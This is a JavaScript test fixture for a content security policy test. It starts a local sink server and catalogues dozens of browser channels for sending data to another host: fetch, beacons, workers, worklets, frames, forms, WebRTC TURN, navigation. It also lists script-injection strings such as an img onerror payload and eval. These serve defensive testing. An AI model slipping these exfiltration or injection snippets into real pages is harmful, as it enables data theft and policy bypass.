/**
 * Every way by which a browser lets a script reach another host, with what our policy is expected
 * to do about it, and a sink that tells whether it was reached. For `policy.test.mjs`.
 *
 * A way is the source of a script that finds the sink's address in `url`, and in `put(tag, {…})` a
 * helper that adds an element to the page.
 */
import { createServer } from "node:net";

/**
 * A host that answers whatever comes over TCP, and lets any page read it.
 *
 * @returns {Promise<{ url: string, got: { connections: number, messages: number }, close: () => void }>}
 */
export async function sink() {
  const got = { connections: 0, messages: 0 };
  /** @type {Set<import("node:net").Socket>} */
  const sockets = new Set();
  const server = createServer((socket) => {
    got.connections += 1;
    sockets.add(socket);
    socket.on("error", () => {}).on("close", () => sockets.delete(socket));
    socket.on("data", () => {
      got.messages += 1;
      socket.write("HTTP/1.1 200 OK\r\naccess-control-allow-origin: *\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\nok");
    });
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", () => done(undefined)));
  const address = server.address();
  const port = typeof address === "object" && address ? address.port : 0;
  const close = () => {
    for (const socket of sockets) socket.destroy();
    server.close();
  };
  return { url: `http://127.0.0.1:${port}/`, got, close };
}

/** Given to every page before the ways. */
export const PUT = `self.put = (tag, attributes = {}, parent = document.body) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  parent.append(element);
  return element;
};`;

/** Requests of a script, in a page as in a worker. @type {Record<string, string>} */
const REQUESTS = {
  "fetch": "fetch(url)",
  "fetch, POST": 'fetch(url, { method: "POST", body: "picture" })',
  "fetch, no-cors": 'fetch(url, { mode: "no-cors", method: "POST", body: "picture" })',
  "XMLHttpRequest": 'const request = new XMLHttpRequest(); request.open("POST", url); request.send("picture")',
  "EventSource": "new EventSource(url)",
  "Cache.add": '(await caches.open("way-out")).add(url)',
};

/** Others that a script starts, in a page as in a worker. @type {Record<string, string>} */
const SCRIPTS = {
  "WebSocket": 'new WebSocket(url.replace("http", "ws"))',
  "FontFace": "self.fonts?.add(new FontFace('way', `url(${url})`)); await new FontFace('way', `url(${url})`).load()",
  "import": "import(url)",
  "Worker of another host": "new Worker(url)",
  "Worker of a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}')`])))",
  "Worker of a blob that imports": 'new Worker(URL.createObjectURL(new Blob([`import "${url}"`])), { type: "module" })',
  "Worker of a data address": "new Worker(`data:text/javascript,fetch('${url}')`)",
  "Worker of our own address": 'new Worker(new URL("/engine/worker.js", location.origin === "null" ? self.origin : location.origin), { type: "module" }).postMessage({ id: 1, call: "load", url })',
};

/** @type {Record<string, string>} */
const ELEMENTS = {
  "sendBeacon": 'navigator.sendBeacon(url, "picture")',
  "fetch, keepalive": 'fetch(url, { method: "POST", body: "picture", keepalive: true })',
  "fetchLater": "fetchLater(url, { activateAfter: 0 })",
  "ping of a link": 'put("a", { href: "#", ping: url }).click()',
  "SharedWorker of another host": "new SharedWorker(url)",
  "SharedWorker of a blob": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}')`])))",
  "service worker of another host": "navigator.serviceWorker.register(url)",
  "service worker of our own address": 'navigator.serviceWorker.register("/engine/worker.js?" + url)',
  "audio worklet": "new AudioContext().audioWorklet.addModule(url)",
  "paint worklet": "CSS.paintWorklet.addModule(url)",
  "image": 'put("img", { src: url })',
  "image in SVG": 'const image = document.createElementNS("http://www.w3.org/2000/svg", "image"); image.setAttribute("href", url); put("div").appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")).append(image)',
  "image of a button": 'put("input", { type: "image", src: url })',
  "image of a style": "document.body.style.backgroundImage = `url(${url})`",
  "images and fonts of a style sheet": "const sheet = new CSSStyleSheet(); sheet.replaceSync(`@font-face { font-family: way; src: url(${url}) } footer { font-family: way; background: url(${url}) }`); document.adoptedStyleSheets = [sheet]",
  "style element": 'put("style").textContent = `@import "${url}"`',
  "style sheet": 'put("link", { rel: "stylesheet", href: url })',
  "icon": 'put("link", { rel: "icon", href: url }, document.head)',
  "manifest": 'put("link", { rel: "manifest", href: url }, document.head)',
  "prefetch": 'put("link", { rel: "prefetch", href: url }, document.head)',
  "preload": 'put("link", { rel: "preload", as: "fetch", href: url, crossorigin: "" }, document.head)',
  "preload of a module": 'put("link", { rel: "modulepreload", href: url }, document.head)',
  "prerender": 'put("link", { rel: "prerender", href: url }, document.head)',
  "speculation rules": 'put("script", { type: "speculationrules" }).textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [url] }] })',
  "script": 'put("script", { src: url })',
  "script, by property": 'document.createElement("script").src = url',
  "frame": 'put("iframe", { src: url })',
  "frame with its source": 'put("iframe", { srcdoc: `<img src="${url}">` })',
  "frame of our own address without a policy": 'const frame = put("iframe", { src: "/icon.svg" }); await new Promise((done) => setTimeout(done, 500)); frame.contentWindow.fetch(url)',
  "empty frame": 'put("iframe").contentWindow.fetch(url)',
  "object": 'put("object", { data: url })',
  "embed": 'put("embed", { src: url })',
  "audio": 'put("audio", { src: url }).load()',
  "video": 'put("video", { src: url, poster: url }).load()',
  "form": 'put("form", { action: url, method: "post" }).submit()',
  "form into a window": 'put("form", { action: url, target: "_blank" }).submit()',
  "popup of our own address without a policy": 'const popup = open("/icon.svg"); await new Promise((done) => setTimeout(done, 500)); popup.fetch(url)',
  "base": 'put("base", { href: url }, document.head); put("img", { src: "relative" })',
};

/**
 * Refused, but the browser may have opened a connection meanwhile: the host's name is told, to it and to
 * name servers. So it is with `preconnect` and `dns-prefetch`, which a driven browser leaves out.
 */
const CONNECTED = ["frame", "form", "form into a window"];

/** What no policy of a page forbids: SECURITY.md says so. */
const WebRTC =
  'const peer = (self.peer = new RTCPeerConnection({ iceServers: [{ urls: url.replace("http://", "turn:").slice(0, -1) + "?transport=tcp", username: "picture", credential: "x" }] })); peer.createDataChannel("way"); await peer.setLocalDescription()';

/** Likewise. @type {Record<string, string>} */
const OPEN = {
  "popup": "open(url)",
  "link into a window": 'put("a", { href: url, target: "_blank" }).click()',
  "download": 'put("a", { href: url, download: "" }).click()',
};

/** Likewise. @type {Record<string, string>} */
const LINKS = {
  "location": "location.href = url",
  "navigation": "navigation.navigate(url)",
  "link": 'put("a", { href: url }).click()',
  "refresh": 'put("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head)',
};

/** What a policy allows with a host's requests. */
export const BY_REQUEST = [...Object.keys(REQUESTS), "sendBeacon", "fetch, keepalive", "fetchLater", "ping of a link", "preload", "prefetch", "empty frame"];

/**
 * Of a way that is `reached`, a connection is proof enough: on a busy machine Chromium's WebRTC sends
 * nothing over one that came too late.
 *
 * @typedef {{ name: string, code: string, outcome: "nothing" | "connection" | "message" | "reached" }} Way
 */
/** @param {Record<string, string>} ways @param {Way["outcome"]} outcome @returns {Way[]} */
const list = (ways, outcome) =>
  Object.entries(ways).map(([name, code]) => ({ name, code, outcome: CONNECTED.includes(name) ? "connection" : outcome }));

/** What is tried in the page and in the engine's worker, with what gets out. */
export const PAGE = [...list({ WebRTC }, "reached"), ...list({ ...REQUESTS, ...SCRIPTS, ...ELEMENTS }, "nothing"), ...list(OPEN, "message")];
export const ENGINE = list({ ...REQUESTS, ...SCRIPTS, importScripts: "importScripts(url)" }, "nothing");
/** After each the page is another. */
export const LEAVING = list(LINKS, "message");

/** Ways for text to become code; each sets `self.ran`. @type {Record<string, string>} */
export const TEXT_AS_CODE = {
  "eval": '(0, eval)("self.ran = true")',
  "Function": 'new Function("self.ran = true")()',
  "timer": 'setTimeout("self.ran = true")',
  "script element": 'put("script").textContent = "self.ran = true"',
  "markup": 'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\'self.ran = true\'>")',
  "handler": 'put("img", { src: "x", onerror: "self.ran = true" })',
  "javascript: address": 'put("a", { href: "javascript:self.ran = true" }).click()',
  "script of a blob": 'put("script", { src: URL.createObjectURL(new Blob(["self.ran = true"])) })',
  "import of a blob": 'import(URL.createObjectURL(new Blob(["self.ran = true"], { type: "text/javascript" })))',
  "import of a data address": 'import("data:text/javascript,self.ran = true")',
};
